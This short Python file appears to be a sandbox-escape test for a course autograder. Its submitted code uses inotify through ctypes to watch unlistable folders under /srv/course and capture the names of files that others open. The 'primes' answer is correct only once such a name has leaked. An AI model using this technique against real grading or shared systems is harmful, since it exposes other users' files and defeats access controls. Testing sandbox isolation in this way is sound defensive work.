"""inotify reports which files others open in folders that cannot be listed.

Success: the attack earns points in `primes`, whose solution needs such a name.
"""


def attack(submission):
    submission.first(
        """
import ctypes, os, re, time
libc = ctypes.CDLL(None)
watches = libc.inotify_init1(os.O_NONBLOCK)
for folder in ("", "/submitted", "/source", "/source/ps1", "/autograded"):
    watch = libc.inotify_add_watch(watches, f"/srv/course{folder}".encode(), 0xFFF)
    print("inotify:", "open" if watch >= 0 else "closed")
names = []
"""
    )
    submission.answer(
        "primes",
        """
        def primes(n):
            end = time.monotonic() + 4
            while not names and time.monotonic() < end:
                try:
                    names.extend(re.findall(rb"[\\w.-]{5,}", os.read(watches, 4096)))
                except OSError:
                    time.sleep(0.05)
            print(names)
            return [k for k in range(2, n) if names and all(k % d for d in range(2, k))]
    """,
    )
